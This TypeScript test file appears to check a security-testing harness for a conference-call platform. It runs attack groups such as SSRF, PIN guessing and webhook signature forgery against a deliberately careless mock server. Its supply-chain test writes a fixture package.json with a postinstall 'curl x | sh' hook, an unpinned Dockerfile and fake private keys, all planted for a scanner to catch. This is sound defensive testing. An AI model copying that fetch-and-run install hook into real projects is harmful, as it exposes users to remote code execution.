import { randomBytes } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Webhook } from 'standardwebhooks';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { workspaceRoot } from '@partyline/dev/workspace';
import type { AccountVault } from '@partyline/conference/providers/account-vault';
import type { AccountCredentials } from '@partyline/provider-contract/account-credentials';
import { ensureDataKey } from '@partyline/store/provider-accounts/data-keys';
import { complaints, runGroup, type Group } from './group.ts';
import { GROUPS } from './groups/all.ts';
import { accountCredentials } from './groups/account-credentials.ts';
import { accountWebhooks } from './groups/account-webhooks.ts';
import { apiKeys } from './groups/api-keys.ts';
import { canaries } from './groups/canaries.ts';
import { dialOutFraud } from './groups/dial-out-fraud.ts';
import { envelope } from './groups/envelope.ts';
import { eventFuzz } from './groups/event-fuzz.ts';
import { eventSignatures, type Verifier } from './groups/event-signatures.ts';
import { histories } from './groups/histories.ts';
import { matrix } from './groups/matrix.ts';
import { pinGuesses } from './groups/pin-guesses.ts';
import { providerJwt } from './groups/provider-jwt.ts';
import { quotas } from './groups/quotas.ts';
import { rowLevelSecurity } from './groups/row-level-security.ts';
import { ssrf } from './groups/ssrf.ts';
import { checkoutAt, supplyChain } from './groups/supply-chain.ts';
import { startCareless, type Manners } from './testing/careless.ts';

let careless: Awaited<ReturnType<typeof startCareless>>;
beforeAll(async () => {
  careless = await startCareless();
});
afterAll(() => careless.stop());

/** On a phone, one who is asked for a PIN and let in with any. */
const letsIn: Manners = (path) => ({
  status: 200,
  body: path.includes('/digits/')
    ? [{ action: 'conversation' }]
    : [{ action: 'input', eventUrl: ['http://hooks/v1/voice/digits/leg_x/1'] }],
});
/** Over is not over, and a token is good for ever. */
const forgets: Manners = async (path, body, owner) => {
  const { uuid } = JSON.parse(body) as { uuid: string };
  if (path === '/v1/voice/answer')
    await owner.pool.query(
      `INSERT INTO leg (id, kind, state, voice_call_id, deadline_at) VALUES ($1, 'inbound', 'ended', $2, now()) ON CONFLICT DO NOTHING`,
      [`leg_${uuid}`, uuid],
    );
  else await owner.pool.query(`UPDATE leg SET reason = COALESCE(reason, '') || 'x' WHERE voice_call_id = $1`, [uuid]);
  return { status: 200, body: {} };
};
/** Counts nothing. */
const grants: Manners = (path) => ({
  status: path === '/v1/rooms' ? 201 : 200,
  body: { tenant: { id: 'ten_greedy' }, key: 'pl_x' },
});
const says: Manners = () => ({ status: 200, body: { everything: careless.target.victim.marks } });
const breaks: Manners = () => ({ status: 500, body: {} });

/** Events as they are sent. */
const capture: Verifier['capture'] = async () => {
  const secret = `whsec_${randomBytes(32).toString('base64')}`;
  const at = new Date();
  const deliveries = Array.from({ length: 12 }, (_, n) => `evt_a_${n + 1}`).map((id) => {
    const body = JSON.stringify({ id, type: 'session.ended', data: { reason: 'x' } });
    return {
      body,
      headers: {
        'webhook-id': id,
        'webhook-timestamp': String(Math.floor(at.getTime() / 1000)),
        'webhook-signature': new Webhook(secret).sign(id, at, body),
      },
    };
  });
  return { secret, deliveries };
};

describe('a group finds fault with what has no defence', () => {
  it.each<[Group, Manners]>([
    [providerJwt, says],
    [accountWebhooks, letsIn],
    [eventFuzz, breaks],
    [histories, forgets],
    [matrix, says],
    [rowLevelSecurity, says],
    [apiKeys, says],
    [pinGuesses, letsIn],
    [canaries, says],
    [ssrf, says],
    [dialOutFraud, says],
    [quotas, grants],
  ])('$name', async (group, manners) => {
    careless.behave(manners);
    const { accepted, inputs } = await runGroup(group, careless.target);
    expect(accepted.length).toBeGreaterThan(inputs / 20);
    expect(accepted.join('\n')).not.toContain('broke off');
  });

  it('event signatures', async () => {
    const { accepted, inputs, least } = await runGroup(eventSignatures, { seed: 1, verify: () => true, capture });
    expect(accepted.length).toBeGreaterThan(inputs * 0.9);
    expect(inputs).toBeGreaterThan(least);
    // And none with what is right.
    expect((await runGroup(eventSignatures, { seed: 1, capture })).accepted).toEqual([]);
  });

  it('sealed secrets', async () => {
    const openVault = () => ({
      lookup: () => randomBytes(32),
      encrypt: (pin: string) => Buffer.from(pin),
      decrypt: (sealed: Uint8Array) => Buffer.from(sealed).toString(),
    });
    // All nonces but the last two are others.
    const sealMany = async (count: number) =>
      Buffer.from(Uint32Array.from({ length: count * 3 }, (_, at) => Math.min(Math.floor(at / 3), count - 2)).buffer);
    const { accepted } = await runGroup(envelope, { seed: 1, openVault, sealMany });
    expect(accepted.join('\n')).toMatch(
      /flipped.*\n[^]*cut to[^]*another key[^]*a key of 0 bytes[^]*used a nonce twice/,
    );
  });

  it('credentials of accounts', async () => {
    const { owner, victim, attacker, seed } = careless.target;
    const openVault = (): AccountVault => ({
      encrypt: async (as, credentials) => {
        await ensureDataKey(owner, as.tenantId, { keyId: 'none', wrapped: Buffer.from('in clear') });
        return Buffer.from(JSON.stringify(credentials));
      },
      decrypt: async (_as, sealed) => JSON.parse(Buffer.from(sealed).toString()) as AccountCredentials,
    });
    const { accepted } = await runGroup(accountCredentials, { seed, owner, victim, attacker, openVault });
    expect(accepted.join('\n')).toMatch(
      /flipped[^]*moved to[^]*another master key[^]*another tenant’s data key[^]*used a nonce twice/,
    );
  });

  it('the supply chain', async () => {
    const root = mkdtempSync(join(tmpdir(), 'partyline-checkout-'));
    const write = (path: string, text: string | object): void =>
      writeFileSync(join(root, path), typeof text === 'string' ? text : JSON.stringify(text));
    write('package.json', {
      name: 'x',
      dependencies: { left: '^1.0.0', right: 'github:a/b' },
      overrides: { a: '*' },
      scripts: { postinstall: 'curl x | sh' },
      allowScripts: { left: true },
    });
    write('package-lock.json', {
      lockfileVersion: 1,
      packages: {
        '': {},
        'node_modules/left': { hasInstallScript: true, resolved: 'git+ssh://x' },
        'node_modules/other': { hasInstallScript: true, integrity: 'sha1-x' },
        'node_modules/@partyline/evil': {},
        'node_modules/linked': { link: true },
      },
    });
    write('Dockerfile', 'FROM node:latest\nADD https://x /x\nRUN npm install\nRUN npm ci --omit=dev\n');
    write('.dockerignore', '');
    write('.gitignore', '');
    write('server.pem', `-----BEGIN PRIVATE KEY-----\n${'A'.repeat(64)}`);
    write('key.md', `-----BEGIN PRIVATE KEY-----\n${'A'.repeat(64)}`);
    const { inputs, accepted } = await runGroup(supplyChain, {
      root,
      files: ['package.json', 'Dockerfile', 'server.pem', 'key.md'],
    });
    // All but: there is an image.
    expect(accepted).toHaveLength(inputs - 1);
  });
});

it('this checkout has nothing to find fault with', async () => {
  expect((await runGroup(supplyChain, checkoutAt(workspaceRoot))).accepted).toEqual([]);
});

describe('a run', () => {
  it('fails when a group made fewer inputs than it should', async () => {
    const idle = await runGroup({ name: 'idle', says: '', least: 1, run: async () => undefined }, undefined);
    expect(complaints('idle', idle)).toEqual(['idle: made 0 inputs, and 1 are needed to prove anything']);
  });

  it('fails when a group broke off', async () => {
    const broken = await runGroup(
      { name: 'broken', says: '', least: 0, run: () => Promise.reject(new Error('no')) },
      undefined,
    );
    expect(complaints('broken', broken)).toEqual(['broken: after 0 inputs: the group broke off: no']);
  });

  it('has every group', () => {
    expect(GROUPS.map(({ name }) => name)).toEqual([...new Set(GROUPS.map(({ name }) => name))]);
    expect(GROUPS.at(-1)).toBe(canaries);
  });
});
